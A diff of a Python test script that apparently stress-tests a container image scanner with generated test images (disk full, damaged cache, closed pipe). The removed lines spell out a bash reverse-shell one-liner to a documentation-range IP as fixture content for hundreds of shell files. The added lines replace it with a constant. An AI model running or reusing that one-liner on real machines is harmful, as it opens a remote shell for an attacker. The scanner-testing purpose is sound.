@@ -17,7 +17,7 @@ def left(where):
 
 if mounted('full', '16k'):
     try:
-        many = image(tar(*[file('f%d.sh' % i, '#!/bin/sh\nbash -i >& /dev/tcp/203.0.113.9/4444 0>&1\n', 0o755) for i in range(200)]))
+        many = image(tar(*[file('f%d.sh' % i, '#!/bin/sh\n' + REVERSE + '\n', 0o755) for i in range(200)]))
         with open(place('full/fill'), 'wb', buffering=0) as f:
             try:
                 while True:
@@ -79,7 +79,7 @@ r2 = scan(hello, cache=place('damaged'))
 ok('damaged facts in the cache give the same report', r2.status == r.status and r2.out == r.out, short(r2))
 
 # Nobody listens any more
-many = image(*[tar(*[file('l%d-%d.sh' % (k, i), '#!/bin/sh\nbash -i >& /dev/tcp/203.0.113.9/%d 0>&1\n' % i, 0o755) for i in range(300)]) for k in range(5)])
+many = image(*[tar(*[file('l%d-%d.sh' % (k, i), '#!/bin/sh\n' + REVERSE + '\n# %d' % i, 0o755) for i in range(300)]) for k in range(5)])
 for fmt in ('table', 'json'):
     p = \
         subprocess.run(['bash', '-c', '"$0" scan --db "$1" --cache-dir "$2" --platform linux/amd64 --format %s "$3" | head -1 >/dev/null; echo "${PIPESTATUS[0]}"' % fmt, PABEAN, place('db'), place('cache'), many], capture_output=True, timeout=60)
